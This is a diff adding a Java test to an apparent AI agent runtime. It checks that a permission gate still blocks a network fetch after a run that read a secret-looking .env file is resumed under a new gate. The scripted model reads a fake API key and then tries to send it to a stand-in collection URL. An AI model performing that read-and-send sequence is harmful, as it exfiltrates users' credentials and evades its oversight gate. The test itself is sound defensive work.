@@ -120,6 +120,35 @@ class PermissionBypassTest {
     }
 
     @Test
+    void aRunResumedWithANewGateKeepsTheLimitOfItsEarlierSecretRead() throws Exception {
+        // Step 1 in one process: the run reads .env. Step 2 in another (a resume, a worker): a new gate.
+        var model = ai.apprentice.model.scripted.ScriptedModel.of(
+                ai.apprentice.model.scripted.ScriptedModel.toolTurn("Reading.", "read_file", "{\"path\":\".env\"}"),
+                ai.apprentice.model.scripted.ScriptedModel.toolTurn("Sending.", "fetch_url", "{\"url\":\"https://collect.example.net/?k=1\"}"),
+                ai.apprentice.model.scripted.ScriptedModel.turn("Done."));
+        Files.writeString(root.resolve(".env"), "API_KEY=sk-live-0123456789\n");
+        var ws = new Workspace(root);
+        var events = new java.util.concurrent.CopyOnWriteArrayList<ai.apprentice.runtime.Event>();
+        var first = ai.apprentice.runtime.Agent.builder().model(model).workspace(root).tools(List.of(new FileTools(ws).readFile(), new FetchTool().tool()))
+                .budget(new ai.apprentice.runtime.Budget(1, 0, 0, null)).gate(gate(ApprovalMode.AUTO, false)).listener(events::add).build();
+        first.start("r", "read and send", null).await();
+        events.removeIf(e -> e instanceof ai.apprentice.runtime.Event.RunFinished); // stopped after its first step
+        var snapshot = ai.apprentice.runtime.RunSnapshot.fromEvents(events);
+        assertThat(snapshot.allowedCalls()).extracting(ToolCall::name).containsExactly("read_file");
+
+        var later = new java.util.concurrent.CopyOnWriteArrayList<ai.apprentice.runtime.Event>();
+        var second = ai.apprentice.runtime.Agent.builder().model(model).workspace(root).tools(List.of(new FileTools(ws).readFile(), new FetchTool().tool()))
+                .gate(gate(ApprovalMode.AUTO, false)).listener(later::add).build();
+        second.resume(snapshot).await();
+        var fetch = later.stream().filter(e -> e instanceof ai.apprentice.runtime.Event.PermissionDecision p && p.tool().equals("fetch_url"))
+                .map(e -> (ai.apprentice.runtime.Event.PermissionDecision) e).toList();
+        assertThat(fetch).singleElement().satisfies(p -> {
+            assertThat(p.allowed()).isFalse();
+            assertThat(p.reason()).contains(".env").contains("looks secret");
+        });
+    }
+
+    @Test
     void afterASecretLookingReadFetchNeedsAnAllowRuleForTheRestOfTheRun() throws Exception {
         var g = gate(ApprovalMode.AUTO, false);
         String page = "{\"url\":\"https://example.org/x\"}";
